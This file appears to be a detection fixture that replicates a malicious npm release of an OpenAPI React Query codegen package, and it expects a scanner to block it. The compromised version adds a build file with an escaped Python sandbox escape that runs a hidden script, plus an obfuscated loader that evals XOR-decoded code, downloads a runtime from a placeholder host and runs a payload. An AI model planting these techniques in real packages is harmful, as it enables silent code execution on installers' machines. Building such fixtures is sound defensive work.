import { packedText } from '../bulk.js';
import { noise, type Replica } from './replica.js';

const files = {
  'README.md': '# OpenAPI React Query Codegen\n\nGenerates hooks for queries from an OpenAPI file.\n',
  'dist/cli.mjs': `#!/usr/bin/env node
import { readFile } from 'node:fs/promises';
import { generate } from './generate.mjs';

const names = { '-i': 'input', '--input': 'input', '-o': 'output', '--output': 'output', '-c': 'client', '--client': 'client' };
const options = { output: 'openapi', client: 'fetch' };
const args = process.argv.slice(2);
for (let at = 0; at < args.length; at += 2) {
  const name = names[args[at]];
  if (!name) {
    console.error('Unknown option ' + args[at]);
    process.exit(1);
  }
  options[name] = args[at + 1];
}
const version = JSON.parse(await readFile(new URL('../package.json', import.meta.url), 'utf8')).version;
await generate(options, version);
`,
  'dist/generate.mjs': `import { mkdir, readFile, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { createExports } from './createExports.mjs';
import { collectOperations } from './collectOperations.mjs';

export async function generate(options, version) {
  const description = JSON.parse(await readFile(options.input, 'utf8'));
  const folder = join(options.output, 'queries');
  await rm(folder, { recursive: true, force: true });
  await mkdir(folder, { recursive: true });
  const head = '// generated with @7nohe/openapi-react-query-codegen@' + version + '\\n\\n';
  for (const [name, text] of createExports(collectOperations(description), options)) await writeFile(join(folder, name), head + text);
}
`,
  'dist/collectOperations.mjs': `const methods = ['get', 'put', 'post', 'delete', 'patch'];

const fallback = (method, path) => method + path.split('/').filter(Boolean).map((part) => part.replace(/[{}]/g, '')).map((part) => part[0].toUpperCase() + part.slice(1)).join('');

export function collectOperations({ paths = {} }) {
  return Object.entries(paths).flatMap(([path, item]) => methods.filter((method) => item[method]).map((method) => ({
    path,
    method,
    name: item[method].operationId ?? fallback(method, path),
    parameters: [...(item.parameters ?? []), ...(item[method].parameters ?? [])].map((one) => one.name),
    isQuery: method === 'get',
  })));
}
`,
  'dist/createExports.mjs': `const upper = (text) => text[0].toUpperCase() + text.slice(1);

const query = ({ name, parameters }) => 'export const use' + upper(name) + ' = (options, queryOptions) =>\\n  useQuery({ queryKey: [\\'' + upper(name) + '\\', ' + parameters.map((one) => 'options.' + one).join(', ') + '], queryFn: () => ' + name + '(options), ...queryOptions });\\n';
const mutation = ({ name }) => 'export const use' + upper(name) + ' = (mutationOptions) =>\\n  useMutation({ mutationFn: (options) => ' + name + '(options), ...mutationOptions });\\n';

export function createExports(operations, { client }) {
  const imports = 'import { useQuery, useMutation } from \\'@tanstack/react-query\\';\\nimport { ' + operations.map((one) => one.name).join(', ') + ' } from \\'../requests/' + client + '.gen\\';\\n\\n';
  return new Map([
    ['queries.ts', imports + operations.filter((one) => one.isQuery).map(query).join('\\n')],
    ['mutations.ts', imports + operations.filter((one) => !one.isQuery).map(mutation).join('\\n')],
  ]);
}
`,
};

export const scriptName = '3FWCvzduYZg.js';
/** A condition that gyp evaluates as Python without names: the way out of it is written in escapes, which its own reader undoes. */
const condition = `[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='catch_warnings'][0]()._module.__builtins__['__import__']('os').system('node ${scriptName}')`;
const escaped = [...condition].map((one) => (/[a-z]/i.test(one) ? `\\U${one.charCodeAt(0).toString(16).padStart(8, '0')}` : one)).join('');
export const gyp = `{
  'targets': [{
    'target_name': 'binding',
    'type': 'none',
    'conditions': [
      ["${escaped} == 0", {}]
    ]
  }]
}
`;
/** The loader: a first layer that a XOR opens for eval, then a second one for another runtime, which it fetches. The first is a comment, the second noise. */
export function loader(seed: number): string {
  const key = Array.from({ length: 16 }, (_, at) => (seed * (at + 3)) % 251);
  const layer = Buffer.from(`/* ${packedText(1_950_000, seed)} */`).map((byte, at) => byte ^ key[at % 16]!);
  return `const _k=[${key.join(',')}],_s="${Buffer.from(layer).toString('base64')}";let _z=Buffer.from(_s,"base64");for(let i=0;i<_z.length;i++)_z[i]^=_k[i%_k.length];try{(0,eval)(_z.toString("utf8"))}catch(e){}(async()=>{const[{execFileSync:x},f,o,p,c]=await Promise.all([import("node:child_process"),import("node:fs"),import("node:os"),import("node:path"),import("node:crypto")]);const d=f.mkdtempSync(p.join(o.tmpdir(),"b-")),u="https://github.example.invalid/oven-sh/bun/releases/latest/download/bun-"+(o.platform()==="win32"?"windows":o.platform())+"-"+(o.arch()==="arm64"?"aarch64":"x64")+".zip";const r=await fetch(u,{redirect:"follow"});f.writeFileSync(p.join(d,"b.zip"),Buffer.from(await r.arrayBuffer()));x("unzip",["-j","-o",p.join(d,"b.zip"),"-d",d],{stdio:"ignore"});const b=p.join(d,o.platform()==="win32"?"bun.exe":"bun");f.chmodSync(b,493);const q=p.join(d,c.randomUUID()+".js"),w=Buffer.from("${packedText(2_600_000, seed + 1)}","base64");for(let i=0;i<w.length;i++)w[i]^=_k[i%_k.length];f.writeFileSync(q,w);x(b,["run",q],{stdio:"ignore",env:{...process.env,_E:"${noise(12, seed + 2)}"}});f.rmSync(d,{recursive:true,force:true})})().catch(()=>{});\n`;
}

export const manifest = { description: 'OpenAPI React Query Codegen', type: 'module', bin: { 'openapi-rq': 'dist/cli.mjs' }, exports: './dist/cli.mjs', license: 'MIT', repository: { type: 'git', url: 'git+https://github.example.invalid/7nohe/openapi-react-query-codegen.git' }, engines: { node: '>=14', pnpm: '>=9' } };
export { files };
export const publisher = { name: 'GitHub Actions', email: 'npm-oidc-no-reply@github.example.invalid', trustedPublisher: { id: 'github' } };

export const replica: Replica = {
  id: 'openapi-react-query-codegen-2026',
  story: 'August 2026: old release lines got a new last version within minutes; a build file leaves the sandbox of gyp\'s conditions in escaped Python, without any command expansion, and runs a script of five megabytes with a random name (after the reports in the project\'s own tracker; the second layer from memory).',
  name: '@7nohe/openapi-react-query-codegen',
  before: { version: '1.6.2', manifest: { ...manifest, files: ['dist'] }, files, publishedAt: '2025-01-24T14:02:00.000Z', publisher: { name: 'codegen-maintainer', email: 'maintainer@example.invalid' } },
  after: { version: '1.6.3', manifest, files: { ...files, 'binding.gyp': gyp, [scriptName]: loader(828) }, publishedAt: '2026-08-28T20:07:00.000Z', publisher },
  must: 'block',
};
